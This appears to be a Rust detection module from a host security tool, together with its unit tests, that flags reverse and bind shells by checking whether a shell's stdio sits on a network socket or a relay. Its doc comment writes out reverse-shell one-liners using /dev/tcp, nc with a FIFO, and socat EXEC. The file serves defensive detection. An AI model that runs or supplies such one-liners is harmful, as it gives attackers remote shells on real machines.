//! `reverse_shell`: a shell or interpreter whose stdin, stdout or stderr is a network socket —
//! `bash -i >& /dev/tcp/host/port 0>&1` and its many cousins — and a shell taking commands from
//! stdin whose stdio is relayed (pipe, FIFO, unix socket or pty) by a process holding a TCP
//! connection (`sh -i < fifo | nc host port > fifo`, `socat TCP:h:p EXEC:sh,pty`), or that was
//! started by one that accepted it (a bind shell). A shell is known by what its file is (an
//! installed shell by device and inode, or a copy by digest), not only by its name.
use std::ffi::OsStr;

use super::Finding;
use crate::{
    config::{Config, Rule},
    process::table::Process,
};

/// Command and Scripting Interpreter: Unix Shell.
pub const ATTACK: &str = "T1059.004";

/// Names of shells and interpreters (versioned names like `python3.11` match by prefix).
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "csh", "tcsh", "fish", "ash", "busybox",
];
const INTERPRETER_PREFIXES: &[&str] = &[
    "python", "perl", "ruby", "php", "lua", "node", "nodejs", "tclsh", "wish", "awk", "gawk",
    "mawk",
];

/// True for a shell by name.
pub fn is_shell_name(name: &OsStr) -> bool {
    name.to_str().is_some_and(|n| SHELLS.contains(&n))
}

/// True for a shell or script interpreter, judged by executable (or comm) name.
pub fn is_shell_or_interpreter(name: &OsStr) -> bool {
    let Some(name) = name.to_str() else {
        return false;
    };
    SHELLS.contains(&name)
        || INTERPRETER_PREFIXES.iter().any(|p| {
            name.strip_prefix(p)
                .is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
        })
}

/// Fires when the process is a shell (by identity or name) or interpreter and one of fds 0-2
/// is a network socket, or a shell whose stdio a connected process relays.
pub fn check(p: &Process, _cfg: &Config) -> Option<Finding> {
    let named = is_shell_or_interpreter(p.exe_name()) || is_shell_or_interpreter(&p.name);
    let exe = p.exe_name().to_string_lossy();
    if let Some((fd, remote)) = p.stdio_net.first()
        && (p.shell || named)
    {
        let peer = match remote {
            Some(r) => format!(" connected to {}:{}", r.addr, r.port),
            None => String::new(),
        };
        let fds: Vec<String> = p.stdio_net.iter().map(|(fd, _)| fd.to_string()).collect();
        let what = if p.shell && !named {
            " (a copy of a shell)"
        } else {
            ""
        };
        return Some(Finding {
            rule: Rule::ReverseShell,
            reason: format!(
                "{exe}{what} has fd {fd} (of {}) on a network socket{peer}",
                fds.join(",")
            ),
            attack: ATTACK,
        });
    }
    let r = p.relay.as_ref().filter(|_| p.shell)?;
    let relay = r
        .exe
        .as_deref()
        .map(super::show)
        .unwrap_or_else(|| "?".into());
    let reason = if r.accepted {
        format!(
            "bind shell: {exe} started with its stdio on pid {} ({relay}), which accepted a connection from {}",
            r.pid, r.remote
        )
    } else {
        format!(
            "{exe} takes commands through pid {} ({relay}), connected to {}",
            r.pid, r.remote
        )
    };
    Some(Finding {
        rule: Rule::ReverseShell,
        reason,
        attack: ATTACK,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{detect::testing::benign, process::table::ConnectFact};

    #[test]
    fn recognises_shells_and_interpreters() {
        for n in [
            "bash",
            "sh",
            "dash",
            "python3",
            "python3.11",
            "perl",
            "node",
            "busybox",
        ] {
            assert!(is_shell_or_interpreter(OsStr::new(n)), "{n}");
        }
        for n in ["sshd", "bashful", "python-config", "nginx"] {
            assert!(!is_shell_or_interpreter(OsStr::new(n)), "{n}");
        }
    }

    #[test]
    fn fires_for_shell_with_socket_stdio() {
        let mut p = benign();
        p.exe = Some("/usr/bin/bash".into());
        p.stdio_net = vec![
            (
                0,
                Some(ConnectFact {
                    addr: [127, 0, 0, 1].into(),
                    port: 4444,
                    proto: crate::procfs::sockets::Proto::Tcp,
                }),
            ),
            (1, None),
        ];
        let f = check(&p, &Config::default()).expect("fires");
        assert!(f.reason.contains("127.0.0.1:4444"), "{}", f.reason);
    }

    #[test]
    fn fires_for_a_renamed_shell_copy_and_a_relayed_shell() {
        let mut p = benign();
        p.exe = Some("/usr/bin/dbus-daemon".into());
        p.stdio_net = vec![(0, None)];
        assert!(
            check(&p, &Config::default()).is_none(),
            "by name alone it is not a shell"
        );
        p.shell = true;
        let f = check(&p, &Config::default()).expect("a copy of a shell");
        assert!(f.reason.contains("copy"), "{}", f.reason);

        let mut p = benign();
        p.exe = Some("/usr/bin/dash".into());
        p.relay = Some(crate::process::table::RelayFact {
            pid: 7,
            exe: Some("/usr/bin/socat".into()),
            remote: "127.0.0.1:4444".parse().expect("addr"),
            accepted: true,
        });
        assert!(
            check(&p, &Config::default()).is_none(),
            "relay facts need a shell"
        );
        p.shell = true;
        let f = check(&p, &Config::default()).expect("bind shell");
        assert!(
            f.reason.contains("bind shell") && f.reason.contains("socat"),
            "{}",
            f.reason
        );
    }

    #[test]
    fn near_miss_non_shell_with_socket_or_shell_without() {
        let mut p = benign();
        p.stdio_net = vec![(0, None)];
        assert!(
            check(&p, &Config::default()).is_none(),
            "ls with a socket is not a shell"
        );
        let mut p = benign();
        p.exe = Some("/usr/bin/bash".into());
        assert!(check(&p, &Config::default()).is_none());
    }
}
